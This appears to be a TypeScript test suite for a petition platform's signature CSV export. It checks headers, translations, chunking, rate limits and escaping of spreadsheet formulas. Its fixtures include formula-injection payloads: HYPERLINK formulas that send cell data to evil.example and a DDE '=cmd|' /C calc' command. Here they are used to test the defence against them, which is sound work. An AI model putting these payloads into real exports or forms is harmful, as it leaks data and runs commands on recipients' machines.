import { test } from '@japa/runner'
import testUtils from '@adonisjs/core/services/test_utils'
import limiter from '@adonisjs/limiter/services/main'
import { allowedRequests } from '#config/rate_limits'
import { DateTime } from 'luxon'
import { insertSignatureRows } from '#database/seeders/signature_rows'
import { EXPORT_CHUNK_SIZE } from '#services/signatures/management'
import { parseCsv } from '#tests/helpers/signatures'
import type Petition from '#models/petition'
import type User from '#models/user'
import { PetitionFactory } from '#database/factories/petition_factory'
import { SignatureFactory } from '#database/factories/signature_factory'

function download(client: any, petition: Petition, owner: User, host?: string) {
  const request = client
    .post(`/petition/${petition.guid}/signatures/download`)
    .withCsrfToken()
    .loginAs(owner)
  return host ? request.header('host', host) : request
}

test.group('Signatures export', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())
  group.each.setup(() => limiter.clear())

  test('a CSV with BOM, translated header and one row per signature, named after the petition', async ({
    client,
    assert,
  }) => {
    const petition = await PetitionFactory.apply('published', 'withOpposition', 'withCustomFields')
      .merge({ askPostalCode: true })
      .with('user')
      .create()
    const owner = petition.user
    const [district, age] = petition.customFields
    const signedAt = DateTime.fromISO('2026-11-20T08:30:15Z', { zone: 'utc' })
    await SignatureFactory.merge({
      petitionId: petition.id,
      firstName: 'Smith, Jr.',
      lastName: 'O"Brien',
      email: 'obrien@example.org',
      comment: 'Line one,\nline "two"\r\nline three',
      customFieldsData: { [district.id]: 'Подол, Київ', [age.id]: '42' },
      country: 'IE',
      postalCode: 'D02 X285',
      createdAt: signedAt,
      confirmedAt: signedAt.plus({ minutes: 5 }),
    }).create()
    await SignatureFactory.apply('opposing', 'anonymous', 'inactive', 'unconfirmed')
      .merge({
        petitionId: petition.id,
        firstName: 'Олена',
        lastName: 'Коваль',
        email: 'olena@example.org',
        comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        customFieldsData: { [district.id]: '@SUM(1+1)' },
        // Signed before the form asked for a country.
        country: null,
        createdAt: signedAt.plus({ hours: 1 }),
      })
      .create()

    const response = await download(client, petition, owner)
    response.assertStatus(200)
    assert.match(response.header('content-type'), /^text\/csv; charset=utf-8/)
    const today = DateTime.utc().toISODate()
    assert.include(
      response.header('content-disposition'),
      `attachment; filename="${petition.slug}-signatures-${today}.csv"`
    )
    const text = response.text()
    assert.isTrue(text.startsWith('\uFEFF'), 'starts with the UTF-8 byte order mark')
    const rows = parseCsv(text.slice(1))
    assert.lengthOf(rows, 3)
    assert.deepEqual(rows[0], [
      'ID',
      'First name',
      'Last name',
      'E-mail',
      'Country',
      'Country code',
      'Postal code',
      'Opinion',
      'District',
      'Age',
      'Support',
      'Anonymous',
      'Verified',
      'Active',
      'Signed at (UTC)',
      'Confirmed at (UTC)',
      'Source',
      'Contact consent',
      'Contact consent at (UTC)',
      'Identity verified',
    ])
    assert.deepEqual(rows[1].slice(1), [
      'Smith, Jr.',
      'O"Brien',
      'obrien@example.org',
      'Ireland',
      'IE',
      'D02 X285',
      'Line one,\nline "two"\r\nline three',
      'Подол, Київ',
      '42',
      'Yes',
      'No',
      'Yes',
      'Yes',
      '2026-11-20 08:30:15',
      '2026-11-20 08:35:15',
      '',
      'No',
      '',
      'No',
    ])
    assert.deepEqual(rows[2].slice(1), [
      'Олена',
      'Коваль',
      'olena@example.org',
      'Unknown',
      '',
      '',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
      `'@SUM(1+1)`,
      '',
      'No',
      'Yes',
      'No',
      'No',
      '2026-11-20 09:30:15',
      '',
      '',
      'No',
      '',
      'No',
    ])
  })

  test('without comments, opposition and fields the export leaves those columns out', async ({
    client,
    assert,
  }) => {
    const petition = await PetitionFactory.apply('published')
      .merge({ allowComments: false })
      .with('user')
      .create()
    const owner = petition.user
    await SignatureFactory.merge({ petitionId: petition.id }).create()
    const rows = parseCsv((await download(client, petition, owner)).text().slice(1))
    assert.deepEqual(rows[0], [
      'ID',
      'First name',
      'Last name',
      'E-mail',
      'Country',
      'Country code',
      'Anonymous',
      'Verified',
      'Active',
      'Signed at (UTC)',
      'Confirmed at (UTC)',
      'Source',
      'Contact consent',
      'Contact consent at (UTC)',
      'Identity verified',
    ])
    assert.lengthOf(rows, 2)
  })

  test('the header and yes/no are in the language of the page', async ({ client, assert }) => {
    const petition = await PetitionFactory.apply('published').with('user').create()
    const owner = petition.user
    await SignatureFactory.merge({ petitionId: petition.id }).create()
    const ukRows = parseCsv(
      (await download(client, petition, owner, 'uk.undersign.test')).text().slice(1)
    )
    const enRows = parseCsv((await download(client, petition, owner)).text().slice(1))
    assert.notEqual(ukRows[0][1], enRows[0][1])
    assert.match(ukRows[0].join(' '), /[А-Яа-яІіЇїЄє]/)
    assert.notEqual(ukRows[1][8], 'Yes')
    // The country's name in the owner's language too.
    assert.equal(ukRows[1][4], 'Україна')
    assert.equal(enRows[1][4], 'Ukraine')
  })

  test('several chunks give every signature exactly once, in id order', async ({
    client,
    assert,
  }) => {
    const petition = await PetitionFactory.apply('published').with('user').create()
    const owner = petition.user
    const count = EXPORT_CHUNK_SIZE * 2 + 17
    await insertSignatureRows(petition.id, count, { batchSize: 500 })
    const rows = parseCsv((await download(client, petition, owner)).text().slice(1)).slice(1)
    assert.lengthOf(rows, count)
    const ids = rows.map((row) => Number(row[0]))
    assert.lengthOf(new Set(ids), count)
    assert.deepEqual(
      ids,
      [...ids].sort((a, b) => a - b)
    )
    const emails = new Set(rows.map((row) => row[3]))
    assert.isTrue(emails.has('signer0@example.org') && emails.has(`signer${count - 1}@example.org`))
  })

  test('no piece of a cell starts a formula when a spreadsheet splits it at a semicolon, tab or line break', async ({
    client,
    assert,
  }) => {
    const petition = await PetitionFactory.apply('published', 'withOpposition', 'withCustomFields')
      .with('user')
      .create()
    const owner = petition.user
    const [district] = petition.customFields
    await SignatureFactory.merge({
      petitionId: petition.id,
      firstName: 'x;=HYPERLINK("http://evil.example/?"&A1)',
      lastName: 'y\t+1+1',
      comment: "fine\n-2+3\r\n@SUM(A1:A9);=cmd|' /C calc'!A0",
      customFieldsData: { [district.id]: 'a;-1' },
    }).create()

    const text: string = (await download(client, petition, owner)).text().slice(1)
    // Excel in a semicolon locale, and a paste of tab-separated text, split
    // there; the worst reader ignores quotes altogether.
    const pieces = text.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^"+/, ''))
    const formulas = pieces.filter((piece) => /^[=+\-@]/.test(piece))
    assert.deepEqual(formulas, [])
    // A careful reader still gets the words back, one apostrophe per formula.
    const row = parseCsv(text)[1]
    assert.equal(row[1], `x;'=HYPERLINK("http://evil.example/?"&A1)`)
    assert.equal(row[6], `fine\n'-2+3\r\n'@SUM(A1:A9);'=cmd|' /C calc'!A0`)
  })

  test("a member's exports are rate-limited", async ({ client, assert }) => {
    const petition = await PetitionFactory.apply('published').with('user').create()
    const owner = petition.user
    await SignatureFactory.merge({ petitionId: petition.id, email: 'limited@example.org' }).create()
    for (let attempt = 0; attempt < allowedRequests('signaturesExport'); attempt++) {
      ;(await download(client, petition, owner)).assertStatus(200)
    }
    const refused = await download(client, petition, owner).redirects(0)
    assert.equal(refused.status(), 429)
    assert.notInclude(refused.text(), 'limited@example.org')
  })
})
